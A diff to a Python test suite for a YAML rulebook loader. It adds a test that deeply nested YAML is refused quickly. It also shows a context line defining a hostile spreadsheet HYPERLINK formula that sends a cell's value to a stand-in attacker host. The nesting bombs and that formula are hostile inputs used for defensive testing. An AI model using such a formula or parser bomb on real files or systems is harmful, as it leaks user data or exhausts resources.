@@ -179,6 +179,26 @@ def test_yaml_alias_bomb_and_huge_rulebook_are_refused_quickly(tmp_path):
     qa_rules.load_rulebook(qa_rules.default_rulebook_path("zh"))  # the real ones still load
 
 
+@pytest.mark.parametrize("nested", ["[" * 50_000 + "]" * 50_000, "{a: " * 5_000 + "1" + "}" * 5_000])
+def test_a_deeply_nested_rulebook_is_refused_in_one_line(tmp_path, monkeypatch, nested):
+    """Nesting past any rulebook's is refused with one line naming the file, before the pure-Python
+    YAML scanner sees it: 50 000 ``[`` kept that scanner busy for 97 s before its own refusal."""
+    import yaml
+
+    scan = yaml.parse
+
+    def parse(stream, Loader=yaml.Loader):  # noqa: N803 - PyYAML's own keyword
+        assert Loader is not yaml.SafeLoader, "the nesting bomb reached the pure-Python scanner"
+        return scan(stream, Loader=Loader)
+
+    monkeypatch.setattr(yaml, "parse", parse)
+    deep = tmp_path / "deep.yaml"
+    deep.write_text(f"id: x\nsections: {nested}\n", encoding="utf-8")
+    with pytest.raises(qa_rules.RulebookError, match="nested too deeply") as refused:
+        qa_rules.load_rulebook(deep)
+    assert str(refused.value).startswith(str(deep))
+
+
 # --------------------------------------------------------------------------- 6. formula injection
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
